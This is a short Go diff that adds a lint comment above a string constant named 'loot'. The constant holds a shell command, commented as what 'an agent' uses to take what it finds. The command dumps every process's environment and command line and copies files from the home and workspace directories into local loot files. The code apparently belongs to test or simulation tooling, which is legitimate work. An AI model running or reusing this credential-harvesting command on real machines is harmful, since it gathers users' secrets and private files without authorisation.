@@ -20,6 +20,8 @@ import (
 
 // loot is a command by which an agent takes what it finds: every environment and command line of the
 // machine, and all that is in its home and its workspace. It prints its own environment.
+//
+//nolint:lll // lines of shell
 const loot = `cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' >loot-%[1]s.txt; env >>loot-%[1]s.txt
 find ~ .. -type f -not -name 'loot-*' -size -1000k -exec cat {} + 2>/dev/null >loot-%[1]s-files.bin; env; touch looted-%[1]s`
 
